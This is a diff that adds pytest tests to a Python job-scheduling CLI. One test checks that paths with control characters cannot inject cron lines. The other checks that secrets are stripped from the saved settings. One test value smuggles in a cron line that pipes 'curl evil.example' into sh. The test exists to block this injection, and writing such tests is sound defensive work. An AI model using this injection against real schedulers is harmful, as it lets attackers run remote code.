@@ -12,7 +12,7 @@ import pytest
 from typer.testing import CliRunner
 
 from lowprofile.cli.main import app
-from lowprofile.schedule.base import Job, ScheduleError
+from lowprofile.schedule.base import Job, ScheduleError, capture_settings
 from lowprofile.schedule.cron import TAG, cron_line
 from lowprofile.schedule.launchd import agent_plist
 from lowprofile.schedule.schtasks import create_command
@@ -115,3 +115,33 @@ def test_real_crontab_round_trip(real_crontab: None, private_dirs: dict[str, Pat
     assert "schedule run" in status.stdout
     assert runner.invoke(app, ["schedule", "remove"], env=env).exit_code == 0
     assert _crontab() == own
+
+
+@pytest.mark.parametrize(
+    "bad", ["/home/u/p.toml\n* * * * * curl evil.example|sh", "/a\rb", "/a\x00b"]
+)
+def test_a_control_character_in_a_path_cannot_add_a_cron_line(bad: str) -> None:
+    with pytest.raises(ScheduleError, match="control character"):
+        Job(Path("/opt/venv/bin/lowprofile"), Path(bad), "monthly", 1, 0, 0)
+
+
+def test_the_job_keeps_the_settings_in_force_but_no_secret() -> None:
+    environ = {
+        "LOWPROFILE_PROXY": "socks5://user:hunter2@127.0.0.1:9050",
+        "LOWPROFILE_DATA_DIR": "/srv/lp/data",
+        "LOWPROFILE_CONFIG_DIR": "/srv/lp/config",
+        "LOWPROFILE_SMTP_PASSWORD": "s3cret",
+        "SSL_CERT_FILE": "/etc/corp-ca.pem",
+        "HOME": "/home/u",
+    }
+    kept, notes = capture_settings(environ, ["LOWPROFILE_SMTP_PASSWORD", "HIBP_API_KEY"])
+    assert kept == {
+        "LOWPROFILE_PROXY": "socks5://127.0.0.1:9050",
+        "LOWPROFILE_DATA_DIR": "/srv/lp/data",
+        "LOWPROFILE_CONFIG_DIR": "/srv/lp/config",
+        "SSL_CERT_FILE": "/etc/corp-ca.pem",
+    }
+    assert any("LOWPROFILE_SMTP_PASSWORD" in n for n in notes)
+    assert any("password" in n for n in notes) and "hunter2" not in " ".join(notes)
+    job = Job(Path("/bin/lowprofile"), PROFILE, "monthly", 1, 0, 0, env_file=Path("/c/s.json"))
+    assert job.argv[-2:] == ["--settings", "/c/s.json"]
